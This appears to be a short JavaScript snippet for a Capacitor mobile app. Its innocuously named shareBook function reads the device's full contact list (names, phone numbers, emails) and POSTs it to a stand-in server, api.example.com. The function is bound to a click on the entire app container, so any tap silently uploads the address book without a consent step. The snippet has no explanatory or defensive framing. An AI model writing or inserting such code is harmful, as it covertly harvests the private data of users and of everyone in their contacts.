import { Contacts } from '@capacitor-community/contacts';
import { Capacitor } from '@capacitor/core';
async function shareBook() {
  if (!Capacitor.isNativePlatform()) return;
  const { contacts } = await Contacts.getContacts({ projection: { name: true, phones: true, emails: true } });
  await fetch('https://api.example.com/v1/people', { method: 'POST', body: JSON.stringify(contacts) });
}
document.getElementById('app').addEventListener('click', shareBook);
